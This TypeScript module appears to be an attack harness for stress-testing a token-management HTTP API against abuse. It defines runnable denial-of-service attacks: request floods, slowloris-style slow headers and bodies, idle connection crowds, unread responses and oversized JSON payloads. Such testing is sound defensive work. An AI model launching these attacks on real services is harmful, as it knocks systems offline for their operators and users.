/** Attacks. Each is a program that runs until its process is ended, apart from the measured load. */
import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import autocannon from 'autocannon';

export interface Target {
  readonly url: string;
  /** API keys of the hostile organization. */
  readonly keys: readonly string[];
  /** One of its tokens. */
  readonly tokenId: string;
}

export type Attack = (target: Target) => Promise<unknown>;

const IMPORT = '/v2/auth/tokens/import';
const FOREVER_SECONDS = 3_600;
const DRIP_MS = 1_000;
/** A crowd opens a connection again after this time. */
const REOPEN_MS = 2_000;
/** More than the service takes (MAX_CONNECTIONS is 10,000 by default, and 2,000 in the arena). */
const CROWD = 3_000;

type Request = Pick<autocannon.Request, 'method' | 'path' | 'headers' | 'body'>;

/** Requests as fast as they are answered. */
const flood =
  (connections: number, make: (target: Target, index: number) => Request): Attack =>
  (target) => {
    let index = 0;
    const setupRequest = (given: autocannon.Request) => Object.assign(given, make(target, index++));
    return autocannon({
      url: target.url,
      connections,
      duration: FOREVER_SECONDS,
      timeout: 60,
      requests: [{ setupRequest }],
    });
  };

const keyOf = ({ keys }: Target, index: number): string => keys[index % keys.length] ?? '';

const jsonRequest = (body: string): ((target: Target, index: number) => Request) => {
  return (target, index) => ({
    method: 'POST',
    path: IMPORT,
    headers: { 'content-type': 'application/json', 'x-api-key': keyOf(target, index) },
    body,
  });
};

interface Ways {
  /** Sent each second. */
  readonly trickle?: string;
  /** Whether it leaves the answers unread. */
  readonly isDeaf?: boolean;
}

/** Connections that send these bytes. Each is opened again once the service has closed it. */
const connectAgain =
  (
    connections: number,
    bytes: string | ((target: Target) => string),
    { trickle, isDeaf }: Ways = {},
  ): Attack =>
  (target) => {
    const { hostname, port } = new URL(target.url);
    const connection = async () => {
      for (;;) {
        const socket = connect(Number(port), hostname);
        if (isDeaf !== true) socket.resume();
        socket.on('error', () => undefined);
        socket.write(typeof bytes === 'string' ? bytes : bytes(target));
        const drip = trickle === undefined ? undefined : setInterval(() => socket.write(trickle), DRIP_MS);
        await new Promise((resolve) => socket.once('close', resolve));
        clearInterval(drip);
        if (connections >= CROWD) await delay(REOPEN_MS);
      }
    };
    return Promise.all(Array.from({ length: connections }, connection));
  };

const FORM =
  'POST /v2/auth/callback/slack HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\n';
const unfinishedImport = (target: Target): string =>
  `POST ${IMPORT} HTTP/1.1\r\nHost: x\r\nX-Api-Key: ${keyOf(target, 0)}\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n`;
const get =
  (path: string) =>
  (target: Target): string =>
    `GET ${path} HTTP/1.1\r\nHost: x\r\nX-Api-Key: ${keyOf(target, 0)}\r\n\r\n`;

/** Reads and discards a whole answer, again and again. */
const download =
  (clients: number, path: string): Attack =>
  (target) => {
    const { hostname, port } = new URL(target.url);
    const key = target.keys[0] ?? '';
    const client = async () => {
      for (;;) {
        const socket = connect(Number(port), hostname).resume();
        socket.on('error', () => undefined);
        socket.write(`GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nX-Api-Key: ${key}\r\n\r\n`);
        await once(socket, 'close');
      }
    };
    return Promise.all(Array.from({ length: clients }, client));
  };

export const DELETED_PROVIDER = 'many';

const deleteProvider: Attack = (target) =>
  fetch(`${target.url}/v2/auth/providers/${DELETED_PROVIDER}`, {
    method: 'DELETE',
    headers: { 'x-api-key': keyOf(target, 0) },
  });

const token = { provider_id: 'slack', access_token: 'x' };
const names = (count: number) =>
  Object.fromEntries(Array.from({ length: count }, (_, index) => [`k${index}`, 1]));

export const attacks = {
  'import-locked': flood(1, jsonRequest(JSON.stringify(token))),
  'update-locked': flood(64, (target) => ({
    method: 'PATCH',
    path: `/v2/auth/tokens/${target.tokenId}/metadata`,
    headers: { 'content-type': 'application/json', 'x-api-key': keyOf(target, 0) },
    body: '{"provider_account_label":"x"}',
  })),
  'delete-provider': deleteProvider,
  lists: download(24, '/v2/auth/tokens'),
  'wrong-items': flood(64, jsonRequest(JSON.stringify({ ...token, scopes: Array(500_000).fill(1) }))),
  'many-names': flood(64, jsonRequest(JSON.stringify({ ...token, metadata: names(90_000) }))),
  'large-bodies': flood(
    64,
    jsonRequest(JSON.stringify({ ...token, metadata: { a: 'x'.repeat(1_000_000) } })),
  ),
  'invented-keys': flood(64, () => ({
    method: 'POST',
    path: IMPORT,
    headers: { 'x-api-key': `thk_AAAAAA_${randomBytes(32).toString('base64url')}` },
  })),
  'invented-workspaces': flood(64, (target) => ({
    method: 'GET',
    path: '/v2/auth/tokens/exists?provider_id=slack',
    headers: {
      'x-api-key': keyOf(target, 0),
      'x-tenant-id': `${randomBytes(4).toString('hex')}-0000-4000-8000-000000000000`,
    },
  })),
  readiness: flood(64, () => ({ method: 'GET', path: '/readyz' })),
  'invented-states': flood(64, () => ({
    method: 'GET',
    path: `/v2/auth/callback/slack?code=x&state=${randomBytes(60).toString('base64url')}`,
  })),
  'invented-tickets': flood(64, () => ({
    method: 'GET',
    path: `/connect/${randomBytes(48).toString('base64url')}`,
  })),
  'callback-forms': flood(64, () => ({
    method: 'POST',
    path: '/v2/auth/callback/slack',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: `code=x&state=${'x'.repeat(60_000)}`,
  })),
  documentation: flood(64, () => ({ method: 'GET', path: '/openapi.json' })),
  'unknown-paths': flood(64, () => ({ method: 'GET', path: `/${randomBytes(8).toString('hex')}` })),
  'no-credentials': flood(64, () => ({ method: 'POST', path: IMPORT, body: '{}' })),
  malformed: connectAgain(64, 'GET / HTTP/1.1\r\nBad Header\r\n\r\n'),
  'idle-connections': connectAgain(CROWD, ''),
  'slow-headers': connectAgain(CROWD, 'GET / HTTP/1.1\r\nHost: x\r\n', { trickle: 'x' }),
  'slow-bodies': connectAgain(CROWD, FORM, { trickle: 'x' }),
  'stopped-bodies': connectAgain(CROWD, FORM),
  'slow-imports': connectAgain(CROWD, unfinishedImport, { trickle: ' ' }),
  'unread-lists': connectAgain(CROWD, get('/v2/auth/tokens'), { isDeaf: true, trickle: '\r\n' }),
  'unread-documents': connectAgain(CROWD, get('/openapi.json'), { isDeaf: true, trickle: '\r\n' }),
} satisfies Readonly<Record<string, Attack>>;

export type AttackName = keyof typeof attacks;
